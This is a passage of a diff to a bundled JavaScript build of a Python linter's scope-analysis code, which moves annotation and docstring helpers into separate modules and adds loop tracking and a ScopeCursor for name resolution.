- *   `del` and augmented targets, names inside string annotations (`"List[int]"`, whose reference
- *   node is the string literal), and the string items of `__all__` (which export module names).
- *
- * RESOLUTION (after the walk: function bodies run when called, so a read in a function body sees
- * what the module has bound by then)
- *
- * Like pyflakes and Ruff, the model is flow-insensitive within a scope but ordered: a read in the
- * code that runs as it is reached (a module or class body, or a function's own body) sees the last
- * binding made before it in that scope; once the lookup leaves a function or lambda, or when the
- * read itself is deferred (string annotations, all annotations under
- * `from __future__ import annotations`, `type` alias values, `__all__`), it sees the last binding
- * of each enclosing scope. Class scopes are only visible from code directly in the class body, as in
- * Python. A name declared `global`/`nonlocal` is looked up in the module/enclosing function. A name
- * whose last binding is a `del` is unbound. A read that finds nothing is left unresolved (a builtin,
- * an undefined name, or, when `maybeStar` is set, possibly a name from a star import).
- *
- * Several bindings of one name in one scope form a "rebinding group" (split at `del`): a read that
- * reaches any member is taken to keep the whole group alive (`isGroupUsed`), because alternatives
- * such as `try: import json / except ImportError: json = None` or `if/else` imports only ever
- * leave one of them bound at run time, and a read in a loop may see any of them.
- */
-const web_tree_sitter_1 = __nccwpck_require__(3778);
-const tree_1 = __nccwpck_require__(3036);
+exports.ScopeBuilder = exports.Reads = exports.BindingRecord = void 0;
 const names_1 = __nccwpck_require__(5166);
-// ---------------------------------------------------------------------------------------------
-// Helpers for rules
-// ---------------------------------------------------------------------------------------------
+const literals_1 = __nccwpck_require__(8436);
+const docstrings_1 = __nccwpck_require__(3520);
+const annotations_1 = __nccwpck_require__(6016);
 /** The `globals` and `nonlocals` of a scope that declares none (shared, never written). */
 const NO_NAMES = new Set();
-const DECLARATIONS = new Set(['global', 'nonlocal']);
-/** Bindings of `name` in `scope`, ordered by when they take effect (declarations excluded). */
-function bindingsOf(scope, name) {
-    return scope.byName.get(name) ?? [];
+/** The `loops` of a scope that has none (shared, never written). */
+const NO_LOOPS = [];
+/** `global x` / `nonlocal x`: declarations, never the target of a lookup. */
+function isDeclaration(kind) {
+    return kind === 'global' || kind === 'nonlocal';
 }
-/** The binding of `name` in `scope` that a read at `at` sees, or the last one when `at` is omitted. */
-function bindingIn(scope, name, at) {
-    const list = scope.byName.get(name);
-    if (!list)
-        return undefined;
-    if (at === undefined)
-        return list[list.length - 1];
-    let found;
-    for (const binding of list) {
-        if (binding.at > at)
-            break;
-        found = binding;
-    }
-    return found;
-}
-/**
- * Resolves `name` as read in `scope` at source index `at` (see the module comment). `deferred`
- * reads, and `at` omitted, see each scope's last binding. Returns undefined for names with no
- * binding (builtins, undefined names, deleted names).
- */
-function lookup(scope, name, at, deferred = false) {
-    let crossed = deferred || at === undefined;
-    for (let s = scope, first = true; s; s = s.parent, first = false) {
-        if (!first && s.kind === 'class')
-            continue;
-        if (s.kind !== 'module' && s.globals.has(name)) {
-            let module = s;
-            while (module.parent)
-                module = module.parent;
-            const binding = bindingIn(module, name);
-            return binding && binding.kind !== 'del' ? binding : undefined;
-        }
-        if (!s.nonlocals.has(name)) {
-            const final = crossed || s.kind === 'comprehension';
-            const binding = bindingIn(s, name, final ? undefined : at);
-            if (binding)
-                return binding.kind === 'del' ? undefined : binding;
-        }
-        if (s.kind === 'function' || s.kind === 'lambda')
-            crossed = true;
-    }
-    return undefined;
-}
-/**
- * The rebinding group of a binding: the bindings of its name in its scope between the `del`
- * statements around it (a `del` closes the group it belongs to).
- */
-function rebindingGroup(binding) {
-    if (DECLARATIONS.has(binding.kind))
-        return [binding];
-    const list = bindingsOf(binding.scope, binding.name);
-    const index = list.indexOf(binding);
-    let start = index;
-    while (start > 0 && list[start - 1].kind !== 'del')
-        start--;
-    let end = index;
-    while (end < list.length - 1 && list[end].kind !== 'del')
-        end++;
-    return list.slice(start, end + 1);
-}
-/** True when some read reaches the binding's rebinding group, or its scope calls `locals()`. */
-function isGroupUsed(binding) {
-    if (binding.scope.usesLocals)
-        return true;
-    return rebindingGroup(binding).some((member) => member.reads > 0);
-}
-/** The innermost scope in which code at source index `index` is evaluated. */
-function scopeAt(model, index) {
-    let scope = model.module;
-    for (;;) {
-        // A child's outer parts (defaults, annotations, bases) run in `scope`; a scope nested in them
-        // (a lambda as a default value) is a child of `scope` too, so keep looking among the siblings.
-        const child = scope.children.find((c) => c.node.startIndex <= index && index < c.node.endIndex && !c.outer.some(([s, e]) => s <= index && index < e));
-        if (!child)
-            return scope;
-        scope = child;
-    }
-}
-// ---------------------------------------------------------------------------------------------
-// The analysis
-// ---------------------------------------------------------------------------------------------
 /** Containers an identifier can sit in while still being the target of an assignment. */
 const TARGET_CONTAINERS = new Set([
     'pattern_list',
@@ -1941,298 +1962,9 @@ const TARGET_CONTAINERS = new Set([
     'as_pattern_target',
 ]);
 const COMPREHENSIONS = new Set(['list_comprehension', 'set_comprehension', 'dictionary_comprehension', 'generator_expression']);
-/** Parents of a `type` node that make it an annotation. */
-const ANNOTATION_OWNERS = new Set(['typed_parameter', 'typed_default_parameter', 'function_definition', 'assignment']);
-/**
- * Subscripted names whose arguments are type expressions even outside annotations (so strings in
- * them are forward references): `Optional["Node"]`, `list["Node"]`. Over-approximating only makes
- * more names count as read, never fewer.
- */
-const TYPE_FORMS = new Set([
-    'Optional', 'Union', 'List', 'Dict', 'Set', 'FrozenSet', 'Tuple', 'Type', 'Callable', 'Iterable',
-    'Iterator', 'Sequence', 'MutableSequence', 'Mapping', 'MutableMapping', 'AbstractSet', 'MutableSet',
-    'Collection', 'Container', 'Reversible', 'Generator', 'AsyncGenerator', 'AsyncIterable',
-    'AsyncIterator', 'Awaitable', 'Coroutine', 'ClassVar', 'Final', 'DefaultDict', 'OrderedDict',
-    'Counter', 'Deque', 'ChainMap', 'ContextManager', 'AsyncContextManager', 'Generic', 'Protocol',
-    'TypeGuard', 'TypeIs', 'Required', 'NotRequired', 'ReadOnly', 'Unpack', 'Concatenate', 'IO',
-    'Pattern', 'Match', 'KeysView', 'ValuesView', 'ItemsView', 'MappingView', 'TypeAlias',
-    'list', 'dict', 'set', 'frozenset', 'tuple', 'type',
-]);
 const IMPORT_ERROR = /\b(ImportError|ModuleNotFoundError)\b/;
-/** Last component of a dotted callee or subscript base: `Literal` for `typing.Literal`. */
-function lastName(node) {
-    if (!node)
-        return undefined;
-    if (node.type === 'identifier')
-        return node.text;
-    if (node.type === 'attribute')
-        return node.childForFieldName('attribute')?.text;
-    return undefined;
-}
-let snippetParser;
-/** A parser for string annotations, sharing the language of the file's tree. */
-function parserFor(language) {
-    if (!snippetParser || snippetParser.language !== language) {
-        snippetParser?.parser.delete();
-        const parser = new web_tree_sitter_1.Parser();
-        parser.setLanguage(language);
-        snippetParser = { language, parser };
-    }
-    return snippetParser.parser;
-}
-/**
- * The value of a plain (non-f, non-bytes) string literal node, or undefined when it is not one.
- * Escapes are decoded for the common cases; annotations rarely contain any.
- */
-function stringValue(node, text) {
-    if (node.type === 'concatenated_string') {
-        let value = '';
-        for (const part of node.namedChildren) {
-            if (!part)
-                continue;
-            const piece = stringValue(part, text);
-            if (piece === undefined)
-                return undefined;
-            value += piece;
-        }
-        return value;
-    }
-    if (node.type !== 'string')
-        return undefined;
-    const start = node.firstChild;
-    const end = node.lastChild;
-    if (!start || !end || start.type !== 'string_start' || end.type !== 'string_end')
-        return undefined;
-    const prefix = start.text.replace(/['"]+$/, '').toLowerCase();
-    if (prefix.includes('f') || prefix.includes('b') || prefix.includes('t'))
-        return undefined;
-    const raw = text.slice(start.endIndex, end.startIndex);
-    if (prefix.includes('r') || !raw.includes('\\'))
-        return raw;
-    return raw.replace(/\\(\r\n|\n|x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|U[0-9a-fA-F]{8}|.)/g, (_m, esc) => {
-        switch (esc[0]) {
-            case '\n':
-            case '\r':
-                return '';
-            case 'n':
-                return '\n';
-            case 't':
-                return '\t';
-            case 'r':
-                return '\r';
-            case 'x':
-            case 'u':
-            case 'U':
-                if (esc.length === 1)
-                    return esc;
-                return parseInt(esc.slice(1), 16) <= 0x10ffff ? String.fromCodePoint(parseInt(esc.slice(1), 16)) : '';
-            default:
-                return esc === '\\' || esc === "'" || esc === '"' ? esc : '\\' + esc;
-        }
-    });
-}
-/** Names of recently seen string annotations (the same few recur throughout a code base). */
-const forwardReferenceCache = new Map();
-/**
- * Names read by a type expression written in a string, or undefined when the string is not a
- * valid expression (Python would reject it as an annotation too).
- */
-function forwardReferenceNames(value, language, depth) {
-    if (depth === 0 && forwardReferenceCache.has(value))
-        return forwardReferenceCache.get(value);
-    const names = parseForwardReference(value, language, depth);
-    if (depth === 0) {
-        if (forwardReferenceCache.size >= 2000)
-            forwardReferenceCache.clear();
-        forwardReferenceCache.set(value, names);
-    }
-    return names;
-}
-function parseForwardReference(value, language, depth) {
-    const expression = value.trim();
-    if (expression === '' || depth > 3)
-        return undefined;
-    // Parenthesised, like the implicit parentheses of an annotation, so that line breaks are fine.
-    const source = `(${expression}\n)`;
-    const parsed = parserFor(language).parse(source);
-    if (!parsed)
-        return undefined;
-    let tree;
-    try {
-        tree = tree_1.SyntaxTree.from(parsed, source);
-    }
-    finally {
-        parsed.delete();
-    }
-    const root = tree.rootNode;
-    if (root.hasError || root.namedChildCount !== 1)
-        return undefined;
-    const statement = root.namedChild(0);
-    if (!statement || statement.type !== 'expression_statement' || statement.namedChildCount !== 1)
-        return undefined;
-    const names = [];
-    collectTypeExpressionNames(statement.namedChild(0), true, names, { language, source, depth });
-    return names;
-}
-/**
- * Names read by an expression parsed from a string annotation. `typeContext` is false inside
- * `Literal[...]` and the metadata of `Annotated[...]`, where strings are values, not types.
- */
-function collectTypeExpressionNames(node, typeContext, out, snippet) {
-    switch (node.type) {
-        case 'identifier':
-            out.push(node.text);
-            return;
-        case 'attribute': {
-            const object = node.childForFieldName('object');
-            if (object)
-                collectTypeExpressionNames(object, typeContext, out, snippet);
-            return;
-        }
-        case 'keyword_argument': {
-            const value = node.childForFieldName('value');
-            if (value)
-                collectTypeExpressionNames(value, typeContext, out, snippet);
-            return;
-        }
-        case 'string':
-        case 'concatenated_string': {
-            const value = typeContext ? stringValue(node, snippet.source) : undefined;
-            if (value !== undefined) {
-                out.push(...(forwardReferenceNames(value, snippet.language, snippet.depth + 1) ?? []));
-                return;
-            }
-            break; // f-strings: their interpolations are ordinary expressions
-        }
-        case 'subscript': {
-            const base = node.childForFieldName('value');
-            if (base)
-                collectTypeExpressionNames(base, typeContext, out, snippet);
-            const name = lastName(base);
-            let index = 0;
-            for (const slice of node.childrenForFieldName('subscript')) {
-                if (!slice)
-                    continue;
-                const inner = typeContext && name !== 'Literal' && !(name === 'Annotated' && index > 0);
-                collectTypeExpressionNames(slice, inner, out, snippet);
-                index++;
-            }
-            return;
-        }
-    }
-    for (const child of node.namedChildren) {
-        if (child)
-            collectTypeExpressionNames(child, typeContext, out, snippet);
-    }
-}
-/** True when the string literal `node` is used as a type (a forward reference). */
-function isTypeString(node) {
-    let current = node;
-    for (;;) {
-        const parent = current.parent;
-        if (!parent)
-            return false;
-        switch (parent.type) {
-            case 'concatenated_string':
-            case 'tuple':
-            case 'list':
-            case 'dictionary':
-            case 'parenthesized_expression':
-            case 'binary_operator':
-            case 'expression_list':
-            case 'union_type':
-            case 'constrained_type':
-            case 'member_type':
-                current = parent;
-                continue;
-            case 'pair':
-                // The field types of `TypedDict("T", {"name": "Type"})`; keys are never types.
-                if (parent.childForFieldName('value')?.id !== current.id)
-                    return false;
-                current = parent;
-                continue;
-            case 'type': {
-                const owner = parent.parent;
-                if (owner && (ANNOTATION_OWNERS.has(owner.type) || owner.type === 'type_alias_statement'))
-                    return true;
-                current = parent;
-                continue;
-            }
-            case 'type_parameter': {
-                const owner = parent.parent;
-                if (owner?.type !== 'generic_type')
-                    return true; // a PEP 695 bound
-                const name = owner.firstNamedChild?.text;
-                if (name === 'Literal')
-                    return false;
-                if (name === 'Annotated' && parent.firstNamedChild?.id !== current.id)
-                    return false;
-                if (name === 'Annotated' || TYPE_FORMS.has(name ?? ''))
-                    return true;
-                current = owner;
-                continue;
-            }
-            case 'subscript': {
-                const base = parent.childForFieldName('value');
-                if (!base || base.id === current.id)
-                    return false;
-                const name = lastName(base);
-                if (name === 'Literal')
-                    return false;
-                if (name === 'Annotated')
-                    return parent.childForFieldName('subscript')?.id === current.id;
-                if (TYPE_FORMS.has(name ?? ''))
-                    return true;
-                current = parent;
-                continue;
-            }
-            case 'argument_list': {
-                const call = parent.parent;
-                const callee = lastName(call?.childForFieldName('function') ?? null);
-                const positional = parent.namedChildren.filter((c) => c && c.type !== 'keyword_argument' && c.type !== 'comment');
-                const position = positional.findIndex((c) => c?.id === current.id);
-                if (callee === 'cast')
-                    return position === 0;
-                if (callee === 'TypeVar')
-                    return position > 0;
-                if (callee === 'NewType' || callee === 'TypeAliasType')
-                    return position === 1;
-                // Functional `TypedDict("T", {...})` and `NamedTuple("T", [("name", "Type")])`.
-                if (callee === 'TypedDict' || callee === 'NamedTuple')
-                    return position === 1;
-                return false;
-            }
-            case 'assignment': {
-                // `X: TypeAlias = "Node | None"`: the value is a type expression.
-                const annotation = parent.childForFieldName('type');
-                if (!annotation || parent.childForFieldName('right')?.id !== current.id)
-                    return false;
-                return /(^|\.)TypeAlias$/.test(annotation.text.trim());
-            }
-            case 'keyword_argument': {
-                // `TypeVar("T", bound="Node")`, `NamedTuple("T", name="Type")`, `TypedDict("T", name="Type")`.
-                const callee = lastName(parent.parent?.parent?.childForFieldName('function') ?? null);
-                if (callee === 'TypedDict' || callee === 'NamedTuple')
-                    return true;
-                return callee === 'TypeVar' && parent.childForFieldName('name')?.text === 'bound';
-            }
-            default:
-                return false;
-        }
-    }
-}
-/** The docstring of a module node or of a class/function body. */
-function docstringOf(body) {
-    const first = body?.firstNamedChild;
-    if (first?.type !== 'expression_statement' || first.namedChildCount !== 1)
-        return undefined;
-    const value = first.firstNamedChild;
-    return value && (value.type === 'string' || value.type === 'concatenated_string') ? value : undefined;
-}
 /** `if TYPE_CHECKING:`, `if typing.TYPE_CHECKING:`, `if not TYPE_CHECKING:`. */
 const IF_TYPE_CHECKING = /if[ \t]+(not[ \t]+)?(?:[\p{ID_Continue}]+[ \t]*\.[ \t]*)*TYPE_CHECKING[ \t]*:/uy;
-/** Calls whose string arguments can be types: `cast("T", x)`, `TypeVar("T", bound="B")`, ... */
-const TYPE_CALLS = new Set(['cast', 'TypeVar', 'NewType', 'TypeAliasType', 'TypedDict', 'NamedTuple']);
 /**
  * Ranges the walk enters in source order, kept on a stack: `at(index)` drops the ranges that end
  * before `index` (the walk never comes back to them) and tells whether `index` is in the innermost
@@ -2302,6 +2034,7 @@ class BindingRecord {
         return this.tree.node(this.ownerId);
     }
 }
+exports.BindingRecord = BindingRecord;
 /**
  * The reads of a file, one entry per read in parallel arrays (struct of arrays): a large file has
  * tens of thousands of reads and each lives until the file is done, so one object per read made
@@ -2316,7 +2049,7 @@ class Reads {
     at = [];
     contexts = [];
     deferred = [];
-    /** Filled in `finish`, in the same order. */
+    /** Filled when the reads are resolved (src/analysis/scopes.ts), in the same order. */
     bindings = [];
     add(name, node, scope, at, context, deferred) {
         this.names.push(name);
@@ -2348,6 +2081,7 @@ class Reads {
         return out;
     }
 }
+exports.Reads = Reads;
 const HANDLED_NAME = 1;
 const HANDLED_STRING = 2;
 class ScopeBuilder {
@@ -2383,9 +2117,10 @@ class ScopeBuilder {
         this.handled = new Uint8Array(this.text.length + 1);
         // The root is `module`, or `ERROR` when the file is badly broken: either way, the module scope.
         const root = context.tree.rootNode;
-        this.pushScope('module', root, undefined, [], root.type === 'module' ? docstringOf(root) : undefined);
+        this.pushScope('module', root, undefined, [], root.type === 'module' ? (0, docstrings_1.docstringOf)(root) : undefined);
     }
-    visitor() {
+    /** The walk's handlers; `done` receives what the walk found, in `end`. */
+    visitor(done) {
         const exitScope = () => void this.stack.pop();
         const popTarget = (node) => {
             const top = this.targets[this.targets.length - 1];
@@ -2412,7 +2147,7 @@ class ScopeBuilder {
             'assignment:exit': popTarget,
             augmented_assignment: (node) => this.augmentedAssignment(node),
             'augmented_assignment:exit': popTarget,
-            for_statement: (node) => this.pushTarget(node, node.childForFieldName('left'), 'for', node.childForFieldName('right')?.endIndex ?? node.startIndex),
+            for_statement: (node) => this.forStatement(node),
             'for_statement:exit': popTarget,
             for_in_clause: (node) => this.pushTarget(node, node.childForFieldName('left'), 'for', node.endIndex),
             'for_in_clause:exit': popTarget,
@@ -2427,7 +2162,12 @@ class ScopeBuilder {
             subscript: (node) => this.subscript(node),
             if_statement: (node) => this.ifStatement(node),
             try_statement: (node) => this.tryStatement(node),
-            end: () => this.context.setAnalysis(exports.scopes.name, this.finish()),
+            while_statement: (node) => {
+                const body = node.childForFieldName('body');
+                if (body)
+                    this.loop(node, node.childForFieldName('condition') ?? body, body);
+            },
+            end: () => done(this.finish()),
         };
         for (const type of COMPREHENSIONS) {
             visitor[type] = (node) => this.enterComprehension(node);
@@ -2455,6 +2195,7 @@ class ScopeBuilder {
             nonlocals: NO_NAMES,
             usesLocals: false,
             starImports: [],
+            loops: NO_LOOPS,
             docstring,
             byName: new Map(),
             outer,
@@ -2473,7 +2214,7 @@ class ScopeBuilder {
         const bases = node.childForFieldName('superclasses');
         if (bases)
             outer.push([bases.startIndex, bases.endIndex]);
-        const scope = this.pushScope('class', node, parent, outer, docstringOf(node.childForFieldName('body')));
+        const scope = this.pushScope('class', node, parent, outer, (0, docstrings_1.docstringOf)(node.childForFieldName('body')));
         this.typeParameters(node, scope);
     }
     enterFunction(node) {
@@ -2492,7 +2233,7 @@ class ScopeBuilder {
         // Innermost-first on the stack: the first annotation in source order ends up on top.
         for (let i = frames.length - 1; i >= 0; i--)
             this.annotations.push(frames[i]);
-        const scope = this.pushScope('function', node, parent, outer, docstringOf(node.childForFieldName('body')));
+        const scope = this.pushScope('function', node, parent, outer, (0, docstrings_1.docstringOf)(node.childForFieldName('body')));
         this.typeParameters(node, scope);
         for (const [identifier, owner] of names)
             this.bind(scope, identifier, 'parameter', owner, identifier.startIndex);
@@ -2590,10 +2331,10 @@ class ScopeBuilder {
         const name = extra.name ?? node.text;
         this.handled[node.startIndex] |= HANDLED_NAME;
         const declared = scope.kind === 'module' ? undefined : scope.globals.has(name) ? 'global' : scope.nonlocals.has(name) ? 'nonlocal' : undefined;
-        const binding = new BindingRecord(name, kind, scope, this.context.tree, node.id, owner.id, at, extra.info, DECLARATIONS.has(kind) ? undefined : declared, this.inRanges(this.typeCheckingRanges, node.startIndex), this.inRanges(this.importGuardRanges, node.startIndex), extra.implicit ?? false);
+        const binding = new BindingRecord(name, kind, scope, this.context.tree, node.id, owner.id, at, extra.info, isDeclaration(kind) ? undefined : declared, this.inRanges(this.typeCheckingRanges, node.startIndex), this.inRanges(this.importGuardRanges, node.startIndex), extra.implicit ?? false);
         scope.bindings.push(binding);
         this.bindings.push(binding);
-        if (!DECLARATIONS.has(kind)) {
+        if (!isDeclaration(kind)) {
             // `[binding]`, not `[]` and a push: a push gives the array room for 17, and most names
             // are bound once in their scope.
             const list = scope.byName.get(name);
@@ -2790,7 +2531,7 @@ class ScopeBuilder {
         if (type) {
             this.annotations.push({ start: type.startIndex, end: type.endIndex, deferred: this.futureAnnotations });
             // `X: TypeAlias = "Node | None"`: the value is a type expression.
-            if (right && /(^|\.)TypeAlias$/.test(type.text.trim()))
+            if (right && (0, annotations_1.isTypeAliasAnnotation)(type.text))
                 this.typeRegions.push({ start: right.startIndex, end: right.endIndex });
         }
         if (right && /__all__[ \t]*[:=]/y.test(this.text.slice(node.startIndex, node.startIndex + 12))) {
@@ -2911,12 +2652,12 @@ class ScopeBuilder {
                 if (part)
                     this.handled[part.startIndex] |= HANDLED_STRING;
         }
-        if (!isTypeString(node))
+        if (!(0, annotations_1.isTypeString)(node))
             return;
-        const value = stringValue(node, this.text);
+        const value = (0, annotations_1.typeStringValue)(node);
         if (value === undefined)
             return;
-        const names = forwardReferenceNames(value, this.context.tree.language, 0);
+        const names = (0, annotations_1.forwardReferenceNames)(value, this.context.tree.language, 0);
         if (!names)
             return;
         const scope = this.scopeAt(start);
@@ -2925,7 +2666,7 @@ class ScopeBuilder {
     }
     subscript(node) {
         const chain = (0, names_1.chainAt)(this.text, node.startIndex, '[');
-        if (chain && (chain.last === 'Annotated' || TYPE_FORMS.has(chain.last))) {
+        if (chain && (chain.last === 'Annotated' || annotations_1.TYPE_FORMS.has(chain.last))) {
             this.typeRegions.push({ start: node.startIndex, end: node.endIndex });
         }
     }
@@ -2942,7 +2683,7 @@ class ScopeBuilder {
             }
             return;
         }
-        if (TYPE_CALLS.has(chain.last)) {
+        if (annotations_1.TYPE_CALLS.has(chain.last)) {
             this.typeRegions.push({ start: node.startIndex, end: node.endIndex });
             return;
         }
@@ -2966,7 +2707,7 @@ class ScopeBuilder {
             switch (node.type) {
                 case 'string':
                 case 'concatenated_string': {
-                    const name = stringValue(node, this.text);
+                    const name = (0, literals_1.stringLiteralValue)(node, { allowFStrings: false });
                     if (name !== undefined) {
                         this.exports.push({ name, node });
                         this.read(node, 'export', scope, name, true);
@@ -3011,6 +2752,18 @@ class ScopeBuilder {
             }
         }
     }
+    forStatement(node) {
+        this.pushTarget(node, node.childForFieldName('left'), 'for', node.childForFieldName('right')?.endIndex ?? node.startIndex);
+        const body = node.childForFieldName('body');
+        if (body)
+            this.loop(node, body, body);
+    }
+    /** Records a loop of the scope the statement is in: its code from `first` to the end of `body` can run again. */
+    loop(statement, first, body) {
+        const scope = this.scopeAt(statement.startIndex);
+        const loops = scope.loops === NO_LOOPS ? (scope.loops = []) : scope.loops;
+        loops.push([first.startIndex, body.endIndex]);
+    }
     tryStatement(node) {
         const body = node.childForFieldName('body');
         if (!body)
@@ -3025,38 +2778,201 @@ class ScopeBuilder {
         if (catches)
             this.importGuardRanges.push([body.startIndex, body.endIndex]);
     }
-    // --- resolution -----------------------------------------------------------------------------
+    // --- the end -----------------------------------------------------------------------------------
+    /** The scopes, bindings and reads found; each scope's bindings by name sorted by when they take effect. */
     finish() {
         for (const scope of this.scopes) {
             for (const list of scope.byName.values())
-                list.sort((a, b) => a.at - b.at);
+                if (list.length > 1)
+                    list.sort((a, b) => a.at - b.at);
         }
-        const reads = this.reads;
-        for (let k = 0; k < reads.names.length; k++) {
-            const binding = lookup(reads.scopes[k], reads.names[k], reads.at[k], reads.deferred[k]);
-            reads.bindings.push(binding);
-            if (binding)
-                binding.reads++; // every binding of the model is one
-        }
-        const tree = this.context.tree;
-        let references;
-        return {
-            module: this.scopes[0],
-            scopes: this.scopes,
-            bindings: this.bindings,
-            get references() {
-                return (references ??= reads.objects(tree));
-            },
-            exports: this.exports,
-            futureAnnotations: this.futureAnnotations,
-        };
+        return { scopes: this.scopes, bindings: this.bindings, reads: this.reads, exports: this.exports, futureAnnotations: this.futureAnnotations };
     }
+}
+exports.ScopeBuilder = ScopeBuilder;
+
+
+/***/ }),
+
+/***/ 7985:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.scopes = exports.ScopeCursor = void 0;
+exports.bindingsOf = bindingsOf;
+exports.bindingIn = bindingIn;
+exports.lookup = lookup;
+exports.rebindingGroup = rebindingGroup;
+exports.isGroupUsed = isGroupUsed;
+exports.scopeAt = scopeAt;
+exports.sharesLoop = sharesLoop;
+const scope_builder_1 = __nccwpck_require__(1500);
+// ---------------------------------------------------------------------------------------------
+// Queries
+// ---------------------------------------------------------------------------------------------
+const DECLARATIONS = new Set(['global', 'nonlocal']);
+/** Bindings of `name` in `scope`, ordered by when they take effect (declarations excluded). */
+function bindingsOf(scope, name) {
+    return scope.byName.get(name) ?? [];
+}
+/** The binding of `name` in `scope` that a read at `at` sees, or the last one when `at` is omitted. */
+function bindingIn(scope, name, at) {
+    const list = scope.byName.get(name);
+    if (!list)
+        return undefined;
+    if (at === undefined)
+        return list[list.length - 1];
+    let found;
+    for (const binding of list) {
+        if (binding.at > at)
+            break;
+        found = binding;
+    }
+    return found;
+}
+/**
+ * Resolves `name` as read in `scope` at source index `at` (see the module comment). `deferred`
+ * reads, and `at` omitted, see each scope's last binding. Returns undefined for names with no
+ * binding (builtins, undefined names, deleted names).
+ */
+function lookup(scope, name, at, deferred = false) {
+    let crossed = deferred || at === undefined;
+    for (let s = scope, first = true; s; s = s.parent, first = false) {
+        if (!first && s.kind === 'class')
+            continue;
+        if (s.kind !== 'module' && s.globals.has(name)) {
+            let module = s;
+            while (module.parent)
+                module = module.parent;
+            const binding = bindingIn(module, name);
+            return binding && binding.kind !== 'del' ? binding : undefined;
+        }
+        if (!s.nonlocals.has(name)) {
+            const final = crossed || s.kind === 'comprehension';
+            const binding = bindingIn(s, name, final ? undefined : at);
+            if (binding)
+                return binding.kind === 'del' ? undefined : binding;
+        }
+        if (s.kind === 'function' || s.kind === 'lambda')
+            crossed = true;
+    }
+    return undefined;
+}
+/**
+ * The rebinding group of a binding: the bindings of its name in its scope between the `del`
+ * statements around it (a `del` closes the group it belongs to).
+ */
+function rebindingGroup(binding) {
+    if (DECLARATIONS.has(binding.kind))
+        return [binding];
+    const list = bindingsOf(binding.scope, binding.name);
+    const index = list.indexOf(binding);
+    let start = index;
+    while (start > 0 && list[start - 1].kind !== 'del')
+        start--;
+    let end = index;
+    while (end < list.length - 1 && list[end].kind !== 'del')
+        end++;
+    return list.slice(start, end + 1);
+}
+/** True when some read reaches the binding's rebinding group, or its scope calls `locals()`. */
+function isGroupUsed(binding) {
+    if (binding.scope.usesLocals)
+        return true;
+    return rebindingGroup(binding).some((member) => member.reads > 0);
+}
+/** The innermost scope in which code at source index `index` is evaluated. */
+function scopeAt(model, index) {
+    let scope = model.module;
+    for (;;) {
+        // A child's outer parts (defaults, annotations, bases) run in `scope`; a scope nested in them
+        // (a lambda as a default value) is a child of `scope` too, so keep looking among the siblings.
+        const child = scope.children.find((c) => c.node.startIndex <= index && index < c.node.endIndex && !c.outer.some(([s, e]) => s <= index && index < e));
+        if (!child)
+            return scope;
+        scope = child;
+    }
+}
+/**
+ * The scopes of nodes taken in source order, in constant time amortised: the cursor keeps the
+ * scopes open around the last node it was asked about, as the walk does. For code that goes over
+ * many nodes after the walk (every call of a file, say), where `scopeAt` would search the scope
+ * tree for each.
+ */
+class ScopeCursor {
+    model;
+    open;
+    next = 1;
+    constructor(model) {
+        this.model = model;
+        this.open = [model.module];
+    }
+    /**
+     * The innermost scope in which the code of `node` runs (for a definition, a lambda or a
+     * comprehension: the scope around it). Nodes must come in pre-order: each node's id at least
+     * the previous one's.
+     */
+    at(node) {
+        const id = node.id;
+        const end = node.tree.end;
+        const scopes = this.model.scopes;
+        const open = this.open;
+        // Scopes are in pre-order of their nodes: open those that start before the node.
+        while (this.next < scopes.length && scopes[this.next].node.id < id) {
+            const scope = scopes[this.next++];
+            while (open.length > 1 && end[open[open.length - 1].node.id] <= scope.node.id)
+                open.pop();
+            open.push(scope);
+        }
+        while (open.length > 1 && end[open[open.length - 1].node.id] <= id)
+            open.pop();
+        const top = open[open.length - 1];
+        // A scope's outer parts (defaults, annotations, bases) run in its parent.
+        const index = node.startIndex;
+        for (const [start, stop] of top.outer)
+            if (start <= index && index < stop)
+                return top.parent;
+        return top;
+    }
+}
+exports.ScopeCursor = ScopeCursor;
+/** True when one loop of `scope` holds both source indices: code at the later can run before code at the earlier. */
+function sharesLoop(scope, a, b) {
+    for (const [start, end] of scope.loops)
+        if (start <= a && a <= end && start <= b && b <= end)
+            return true;
+    return false;
+}
+// ---------------------------------------------------------------------------------------------
+// Resolution and the analysis
+// ---------------------------------------------------------------------------------------------
+/** Resolves every read the walk found (see RESOLUTION above) and counts the reads of each binding. */
+function resolveReads(built, tree) {
+    const reads = built.reads;
+    for (let k = 0; k < reads.names.length; k++) {
+        const binding = lookup(reads.scopes[k], reads.names[k], reads.at[k], reads.deferred[k]);
+        reads.bindings.push(binding);
+        if (binding)
+            binding.reads++; // every binding of the model is one
+    }
+    let references;
+    return {
+        module: built.scopes[0],
+        scopes: built.scopes,
+        bindings: built.bindings,
+        get references() {
+            return (references ??= reads.objects(tree));
+        },
+        exports: built.exports,
+        futureAnnotations: built.futureAnnotations,
+    };
 }
 /** The shared scope/binding analysis; see the comment at the top of this file. */
 exports.scopes = {
     name: 'scopes',
     create(context) {
-        return new ScopeBuilder(context).visitor();
+        return new scope_builder_1.ScopeBuilder(context).visitor((built) => context.setAnalysis(exports.scopes.name, resolveReads(built, context.tree)));
     },
 };
 
@@ -3405,241 +3321,6 @@ function applyBaselineSarif(file, findings, source) {
 
 /***/ }),
 
-/***/ 4991:
-/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
-
-
-var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
-    if (k2 === undefined) k2 = k;
-    var desc = Object.getOwnPropertyDescriptor(m, k);
-    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
-      desc = { enumerable: true, get: function() { return m[k]; } };
-    }
-    Object.defineProperty(o, k2, desc);
-}) : (function(o, m, k, k2) {
-    if (k2 === undefined) k2 = k;
-    o[k2] = m[k];
-}));
-var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
-    Object.defineProperty(o, "default", { enumerable: true, value: v });
-}) : function(o, v) {
-    o["default"] = v;
-});
-var __importStar = (this && this.__importStar) || (function () {
-    var ownKeys = function(o) {
-        ownKeys = Object.getOwnPropertyNames || function (o) {
-            var ar = [];
-            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
-            return ar;
-        };
-        return ownKeys(o);
-    };
-    return function (mod) {
-        if (mod && mod.__esModule) return mod;
-        var result = {};
